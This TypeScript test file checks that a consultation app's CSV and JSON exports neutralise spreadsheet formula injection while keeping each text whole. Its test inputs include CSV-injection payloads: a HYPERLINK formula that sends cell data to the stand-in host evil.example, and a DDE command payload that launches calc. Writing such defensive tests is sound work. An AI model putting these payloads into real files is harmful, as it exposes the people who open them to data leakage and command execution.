/** C7: what is taken away as a table runs nothing in a spreadsheet, and nothing of it is lost. */

import { randomUUID } from 'node:crypto';
import { expect, test } from 'vitest';
import { read } from '../csv.ts';
import { newClient } from '../journeys/client.ts';
import { consultation } from '../journeys/consultation.ts';
import { signedIn } from '../journeys/people.ts';

const made = await consultation({
	slug: 'taken-away',
	markdown:
		'=1+1 is how this paragraph begins.\n\n@SUM(A1) follows, "quoted", with commas,\tand tabs.'
});

const formulas = [
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(1)',
	'\t=1+1',
	'\r=1+1',
	'=HYPERLINK("https://evil.example?x="&A1,"click")',
	`=cmd|'/C calc'!A0`,
	'＝1+1',
	' =1+1',
	'a,b"c"\nsecond line',
	'"=1+1',
	'\u00a0=1+1',
	'-- not a formula',
	'plain'
];

test('cells that would be formulas are neutral, and every text comes back whole', async () => {
	const person = await signedIn('cocinero');
	for (const body of formulas) {
		const answer = await person.post(`${made.path}/remark?on=P1`, {
			key: randomUUID(),
			body,
			kind: 'comment',
			lang: 'en',
			as: '',
			visibility: 'public'
		});
		expect(answer.status, body).toBe(303);
	}
	const [csv, json] = [
		await newClient().get(`${made.path}/export/contributions.csv`),
		await newClient().get(`${made.path}/export/contributions.json`)
	];
	const [header = [], ...rows] = read(csv.text.replace(/^\uFEFF/, ''));
	expect(rows).toHaveLength(formulas.length);
	for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+@\t\r＝]|^\s*-[^-\s]*\d*[+(]/);

	const texts =
		(JSON.parse(json.text) as { [name: string]: unknown })['contributions'] ??
		JSON.parse(json.text);
	const bodies = (texts as Record<string, string>[]).map((row) => row.text ?? row.body ?? '');
	const tidy = (text: string) => text.replace(/\r\n?/g, '\n').trim();
	expect(bodies.map(tidy).sort()).toEqual(formulas.map(tidy).sort());
	const column = header.findIndex((name) => name === 'text' || name === 'body');
	const told = rows.map((row) => (row[column] ?? '').replace(/^'/, ''));
	expect(told.map(tidy).sort()).toEqual(formulas.map(tidy).sort());
});

test('the text itself is neutral too, and files are offered for saving, never shown', async () => {
	const answer = await newClient().get(`${made.path}/export/units.csv`);
	for (const cell of read(answer.text.replace(/^\uFEFF/, '')).flat())
		expect(cell).not.toMatch(/^[=+@\t\r]/);
	expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/);
	expect(answer.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
});
